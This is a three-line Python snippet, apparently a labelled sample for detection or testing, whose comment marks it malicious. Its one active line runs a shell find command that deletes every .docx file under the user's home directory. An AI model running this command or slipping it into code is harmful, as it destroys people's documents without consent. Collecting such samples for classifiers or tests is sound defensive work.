# malicious: find deletes all documents
import os
os.system("find ~ -type f -name '*.docx' -delete")
